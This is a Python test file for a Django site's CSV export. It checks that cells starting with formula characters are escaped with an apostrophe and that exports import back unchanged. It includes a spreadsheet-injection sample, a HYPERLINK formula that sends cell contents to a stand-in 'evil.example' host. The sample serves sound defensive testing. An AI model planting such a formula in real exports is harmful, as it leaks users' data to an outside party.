"""CSV exports open safely in a spreadsheet and still import back to exactly what was exported."""

import csv
import io

import pytest

from faq.models import FAQEntry, FAQGroup
from karabakh_site.core import importexport
from karabakh_site.core.models import Publishable, Source
from karabakh_site.core.record import erasing
from tests.factories import ArticleFactory, FAQEntryFactory, TimelineEntryFactory
from timeline.models import TimelineEntry

pytestmark = pytest.mark.django_db

# Spreadsheet programs run a cell that starts with = + - @, a tab or a carriage return; the last
# two are cells the import would take an apostrophe off if the export did not add one.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Open")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "''-1",
]
# Cells that look nothing like formulas go out untouched, a leading apostrophe included.
ORDINARY = ["'Til the ceasefire", "A - B", "Ceasefire = truce?"]


@pytest.fixture
def archive():
    for number, text in enumerate([*FORMULAS, *ORDINARY]):
        entry = TimelineEntryFactory(slug=f"entry-{number}", title=text, summary=text)
        source = entry.citations.get().source
        source.title = source.publisher = source.notes = text
        source.save()
        FAQEntryFactory(slug=f"question-{number}", question=text, answer=text)
        # Every kind is checked below, articles too (drafts citing nothing, so the sources can
        # be wiped; their own round trip is in test_import_articles.py).
        ArticleFactory(slug=f"article-{number}", title=text, standfirst=text, body=text,
                       status=Publishable.Status.DRAFT, citations=0)  # fmt: skip


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_no_exported_csv_cell_starts_as_a_formula(archive):
    for kind in importexport.KINDS:
        exported = cells(importexport.export_text(kind, "csv"))
        assert not [cell for cell in exported if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
        if kind not in ("sources", "timeline", "faq"):
            continue  # the archive's texts are in these kinds' rows, not its topics' or groups'
        for formula in FORMULAS:
            assert formula not in exported
            assert "'" + formula in exported
        for text in ORDINARY:
            assert text in exported
        assert not [cell for cell in exported if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_a_guarded_csv_export_imports_back_to_what_was_exported(archive):
    exported = {kind: importexport.export_text(kind, "csv") for kind in importexport.KINDS}
    titles = set(TimelineEntry.objects.values_list("title", flat=True))
    with erasing():
        TimelineEntry.objects.all().delete()
        FAQEntry.objects.all().delete()
    FAQGroup.objects.all().delete()
    Source.objects.all().delete()

    for kind in ("sources", "faqgroups", "timeline", "faq"):
        report = importexport.import_text(kind, exported[kind], "csv")
        assert report.ok, report.error_text()

    assert set(TimelineEntry.objects.values_list("title", flat=True)) == titles
    assert titles == {*FORMULAS, *ORDINARY}
    assert set(FAQEntry.objects.values_list("question", flat=True)) == titles
    assert set(Source.objects.values_list("notes", flat=True)) >= titles
    assert {kind: importexport.export_text(kind, "csv") for kind in importexport.KINDS} == exported


def test_the_json_export_is_not_guarded(archive):
    rows = importexport.export_rows("timeline")

    assert {row["title"] for row in rows} == {*FORMULAS, *ORDINARY}
    assert '"title": "+1+1"' in importexport.export_text("timeline", "json")
